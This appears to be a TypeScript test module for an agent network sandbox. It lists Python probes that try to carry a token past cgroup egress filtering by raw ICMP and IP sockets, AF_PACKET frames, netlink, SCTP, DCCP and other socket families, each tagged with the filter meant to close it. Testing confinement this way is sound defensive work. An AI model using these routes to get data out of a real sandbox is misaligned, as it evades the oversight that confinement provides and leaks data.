/** Ways round by other kinds of sockets. */
import type { Stated, Vector } from "../vector.ts";

const FILTERED = ["socket-kind", "seccomp", "capability"];
/** The cgroup has no hook for these; `run` filters them, and so may a container's runtime. */
const NO_HOOK: readonly Stated[] = [
  {
    limit: "AF_PACKET, AF_VSOCK, AF_NETLINK, AF_XDP have no cgroup hook",
    remedy:
      "start agents with `sallyport run`; for containers and services a seccomp profile or RestrictAddressFamilies",
    places: ["container"],
  },
];
const ICMP = `
def echo(data):
    message = struct.pack(">BBHHH", 8, 0, 0, os.getpid() & 0xffff, 1) + data
    total = sum(struct.unpack(">%dH" % (len(message) // 2), message[: len(message) // 2 * 2]))
    if len(message) % 2:
        total += message[-1] << 8
    total = (total >> 16) + (total & 0xffff)
    return message[:2] + struct.pack(">H", ~(total + (total >> 16)) & 0xffff) + message[4:]
`;

/** Those with a sink first. Of the rest, to have made the socket counts as success. */
export const KINDS: readonly Vector[] = [
  {
    name: "raw-icmp",
    what: "sends ICMP by a raw socket",
    attack: `${ICMP}
step("socket")
sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
step("sendto")
sock.sendto(echo(TOKEN), (T["sink4"], 0))`,
    closedBy: FILTERED,
    capability: "NET_RAW",
  },
  {
    name: "raw-header",
    what: "sends a UDP packet of its own making by a raw socket",
    attack: `
step("socket")
sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
data = struct.pack(">HHHH", 4000, T["port"]["sink"], 8 + len(TOKEN), 0) + TOKEN
header = struct.pack(">BBHHHBBH4s4s", 69, 0, 20 + len(data), 0, 0, 64, 17, 0, socket.inet_aton(T["own4"]), socket.inet_aton(T["sink4"]))
step("sendto")
sock.sendto(header + data, (T["sink4"], 0))`,
    closedBy: FILTERED,
    capability: "NET_RAW",
  },
  {
    name: "raw-ipv6",
    what: "sends ICMPv6 by a raw socket",
    attack: `
step("socket")
sock = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
step("sendto")
sock.sendto(bytes([128, 0, 0, 0, 0, 1, 0, 1]) + TOKEN, (T["sink6"], 0))`,
    closedBy: FILTERED,
    capability: "NET_RAW",
  },
  {
    name: "ping-socket",
    what: "sends an echo request by a ping socket, which needs no privilege",
    attack: `${ICMP}
step("socket")
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
step("sendto")
sock.sendto(echo(TOKEN), (T["sink4"], 0))`,
    closedBy: FILTERED,
  },
  {
    name: "ping-socket-ipv6",
    what: "the same over IPv6",
    attack: `
step("socket")
sock = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)
step("sendto")
sock.sendto(bytes([128, 0, 0, 0, 0, 1, 0, 1]) + TOKEN, (T["sink6"], 0))`,
    closedBy: FILTERED,
  },
  {
    name: "packet-raw",
    what: "writes a whole Ethernet frame by AF_PACKET, below every hook of the IP stack",
    attack: `
step("socket")
sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
step("send")
sock.bind(("eth0" if T["local"] == "container" else "host0", 0))
sock.send(b"\\xff" * 6 + bytes(6) + b"\\x88\\xb5" + TOKEN)`,
    closedBy: FILTERED,
    capability: "NET_RAW",
  },
  {
    name: "packet-cooked",
    what: "the same with SOCK_DGRAM",
    attack: `
step("socket")
sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0)
step("send")
sock.sendto(TOKEN, ("eth0" if T["local"] == "container" else "host0", 0x88b5, 0, 0, b"\\xff" * 6))`,
    closedBy: FILTERED,
    capability: "NET_RAW",
  },
  {
    name: "netlink-message",
    what: "sends to another process of the namespace by NETLINK_USERSOCK",
    attack: `
step("socket")
sock = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 2)
step("sendto")
sock.sendto(TOKEN, (T["port"]["netlink"], 0))`,
    closedBy: FILTERED,
    stated: NO_HOOK,
  },
  ...[
    { name: "sctp", what: "SCTP", family: 2, type: 1, protocol: 132 },
    { name: "dccp", what: "DCCP", family: 2, type: 6, protocol: 33 },
  ].map(({ name, what, family, type, protocol }) => ({
    name,
    what: `connects by ${what}`,
    attack: `
step("socket")
sock = socket.socket(${family}, ${type}, ${protocol})
step("connect")
sock.connect((T["sink4"], T["port"]["sink"]))
pour(sock)`,
    closedBy: FILTERED,
  })),
  ...[
    { name: "vsock", what: "AF_VSOCK, to the hypervisor", family: 40, type: 1 },
    { name: "alg", what: "AF_ALG, the kernel's ciphers", family: 38, type: 5 },
    { name: "xdp", what: "AF_XDP, below the stack", family: 44, type: 3 },
    { name: "key", what: "AF_KEY, the kernel's IPsec tables", family: 15, type: 3 },
    { name: "smc", what: "AF_SMC, whose TCP is the kernel's own", family: 43, type: 1 },
  ].map(({ name, what, family, type }) => ({
    name,
    what: `makes a socket of ${what}`,
    attack: `
step("socket")
sock = socket.socket(${family}, ${type}, ${name === "key" ? 2 : 0})
made("a socket of family ${family}")`,
    judge: "made" as const,
    closedBy: FILTERED,
    capability: "NET_RAW",
    stated: NO_HOOK,
  })),
  {
    name: "every-other-family",
    what: "makes a socket of any family from 3 to 45 besides IP, netlink and Unix",
    attack: `
found, last = [], None
step("socket")
for family in range(3, 46):
    if family in (10, 16):
        continue
    for kind in (1, 2, 3, 5):
        try:
            socket.socket(family, kind, 0)
            found.append(family)
        except OSError as error:
            if error.errno not in (errno.EAFNOSUPPORT, errno.ESOCKTNOSUPPORT, errno.EPROTONOSUPPORT, errno.EINVAL):
                last = error
if not found:
    raise last or OSError(errno.EAFNOSUPPORT, "no family")
made("sockets of families " + " ".join(map(str, sorted(set(found)))))`,
    judge: "made",
    closedBy: FILTERED,
    capability: "NET_RAW",
    stated: NO_HOOK,
  },
  {
    name: "netlink-other",
    what: "makes a netlink socket that is not for routes (connector, audit, generic, netfilter)",
    attack: `
found, last = [], None
step("socket")
for protocol in (9, 11, 12, 16):
    try:
        socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol)
        found.append(protocol)
    except OSError as error:
        last = error
if not found:
    raise last
made("netlink protocols " + " ".join(map(str, found)))`,
    judge: "made",
    closedBy: FILTERED,
    stated: NO_HOOK,
  },
];
